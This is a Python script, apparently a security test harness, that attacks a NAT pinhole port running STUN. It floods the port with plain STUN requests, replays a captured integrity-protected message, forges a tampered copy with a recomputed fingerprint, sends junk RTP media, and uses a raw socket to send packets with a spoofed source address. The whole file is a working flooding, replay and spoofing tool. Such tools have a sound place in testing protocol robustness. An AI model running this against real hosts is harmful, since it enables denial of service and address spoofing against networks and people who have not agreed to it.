#!/usr/bin/env python3
"""An attacker at the pinhole port: floods it with STUN of all kinds, round after round, until it is ended.

    forger.py OWN-ADDRESS TARGET PORT SPOOFED-ADDRESS FILE PACKETS-PER-SECOND

FILE has a CMPH in hexadecimal, as it was seen on the wire. It is replayed from here, replayed as if from SPOOFED-ADDRESS
(another port of the agent's own NAT), and changed. Between them: plain STUN, and media that belongs to nobody.
"""

import itertools
import os
import socket
import struct
import sys
import time
import zlib

MARK = b"\x66"
SPOOFED_PORT = 9999


def forged(message):
    """MESSAGE with another MESSAGE-INTEGRITY-SHA256, and the FINGERPRINT that belongs to it."""
    body = bytearray(message[:-8])
    body[-1] ^= 0xff
    return bytes(body) + struct.pack("!HHI", 0x8028, 4, zlib.crc32(bytes(body)) ^ 0x5354554e)


def plain():
    return struct.pack("!HHI", 1, 0, 0x2112a442) + os.urandom(12)


def media():
    return struct.pack("!BBHII", 0x80, 0, 1, 160, 0x0badcafe) + MARK * 160


def ip_packet(source, target, port, payload):
    """A UDP datagram that says to come from SOURCE; without a checksum."""
    udp = struct.pack("!HHHH", SPOOFED_PORT, port, 8 + len(payload), 0) + payload
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, socket.inet_aton(source),
                       socket.inet_aton(target)) + udp


def main(own, target, port, spoofed, path, rate):
    with open(path, encoding="ascii") as f:
        cmph = bytes.fromhex(f.read())
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((own, 0))
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    there, start, sent = (target, int(port)), time.monotonic(), 0
    for turn in itertools.count():
        for data in (plain(), cmph, forged(cmph), media()):
            sock.sendto(data, there)
        raw.sendto(ip_packet(spoofed, target, int(port), cmph), (target, 0))
        raw.sendto(ip_packet(spoofed, target, int(port), forged(cmph)), (target, 0))
        sent += 6
        if turn % 20 == 0:
            time.sleep(max(0.0, start + sent / int(rate) - time.monotonic()))
        if turn % 500 == 0:
            print("round", turn // 500, flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
